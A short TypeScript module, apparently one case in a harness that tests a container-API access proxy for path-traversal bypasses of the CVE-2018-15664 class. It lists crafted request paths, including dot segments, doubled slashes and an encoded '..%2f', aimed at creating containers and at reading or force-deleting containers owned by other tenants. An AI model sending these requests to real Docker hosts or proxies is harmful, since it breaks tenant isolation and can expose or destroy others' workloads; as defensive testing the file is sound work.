import { type Attempt, bare, lines, v } from './book';

export const attempt: Attempt = {
  title: 'go up and down in the path',
  source: 'CVE-2018-15664’s class on the path of the request: one side cleans it, the other does not',
  async try(world) {
    const own = world.own.container.id;
    return [...(await lines(world, [
      ...['/containers/x/../create', '/./containers/create', '/containers/./create', '/containers/create/', '/containers/create/.',
        '/containers/create/..', '//containers/create', '/containers//create', '/../containers/create', '/x/../containers/create',
        '/images/a/../../containers/create', '/containers/.../create', '/plugins/x/../../containers/create',
        '/distribution/../containers/create'].map((path) => `POST ${v}${path}`),
      `POST /${v}/containers/create`, `POST ${v}/../v1.41/containers/create`])), ...(await bare(world,
        world.foreign.flatMap(({ container: { id } }) => [`GET ${v}/containers/${own}/../${id}/json`,
        `GET ${v}/containers/${own}/..%2f${id}/json`, `DELETE ${v}/containers/${own}/../${id}?force=1`,
        `GET ${v}/images/../containers/${id}/json`, `GET ${v}/images/x/../../containers/${id}/json`])))];
  },
};
